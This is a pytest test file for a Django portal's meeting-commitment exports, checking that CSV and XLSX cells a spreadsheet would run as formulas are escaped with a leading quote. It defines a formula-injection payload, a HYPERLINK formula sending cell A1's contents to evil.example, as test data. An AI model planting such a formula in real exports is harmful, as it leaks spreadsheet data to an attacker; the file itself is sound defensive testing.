"""Exports are data, not code: a cell that a spreadsheet would run as a formula is escaped in
every commitments export (portal CSV/XLSX, admin CSV/XLSX); the portal's export speaks to
people (headers and labels, not codes)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from portal.exports import escape_cell
from portal.tests.job_helpers import download

from .factories import CommitmentFactory, MeetingFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture
def commitment(demo, dinkes):
    meeting = MeetingFactory(held=True, title=EVIL, region_id="63.05.04")
    return CommitmentFactory(
        meeting=meeting,
        owner=demo.orgs["dinkes"],
        pic=dinkes,
        description="+62 811 000",
        status="in_progress",
    )


def xlsx_rows(content: bytes) -> list[tuple]:
    return list(openpyxl.load_workbook(io.BytesIO(content)).active.values)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_cells_a_spreadsheet_would_run_are_escaped(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Rakor", "", 5, -5, None, "a=b"])
def test_other_cells_are_kept_as_they_are(value):
    assert escape_cell(value) == value


def test_the_portal_xlsx_export_keeps_no_formula_and_reads_like_a_report(client, dinkes, commitment):
    client.force_login(dinkes)

    response = client.post(reverse("meetings:commitment-export-job", args=["xlsx"]))

    content = download(client, response)
    header, row = xlsx_rows(content)
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert all(cell.data_type != "f" for line in book.active.iter_rows() for cell in line)
    assert header[:3] == ("Rapat", "Tanggal rapat", "Komitmen")
    assert row[0] == "'" + EVIL and row[2] == "'+62 811 000"
    assert "Sedang berjalan" in row and "in_progress" not in row
    assert dinkes.get_full_name() in row


def test_the_portal_csv_export_keeps_no_formula(client, dinkes, commitment):
    client.force_login(dinkes)
    client.cookies["django_language"] = "en"

    response = client.post(reverse("meetings:commitment-export-job", args=["csv"]))

    header, row = list(csv.reader(io.StringIO(download(client, response).decode())))
    assert header[0] == "Meeting" and "In progress" in row
    assert row[0] == "'" + EVIL


def test_the_admin_exports_keep_no_formula(client, notulis, commitment):
    client.force_login(notulis)
    client.cookies["django_language"] = "en"
    fields = ["id", "meeting_title", "description", "status"]
    for fmt in ("0", "1"):
        response = client.post(
            reverse("admin:meetings_commitment_export"),
            {"format": fmt, "resource": "0", **{f"commitmentresource_{f}": True for f in fields}},
        )
        content = download(client, response)
        if fmt == "1":
            header, row = xlsx_rows(content)
        else:
            header, row = list(csv.reader(io.StringIO(content.decode())))
        values = dict(zip(fields, row, strict=True))
        assert header[1] == "Meeting title"
        assert values["meeting_title"] == "'" + EVIL
        assert values["description"] == "'+62 811 000"
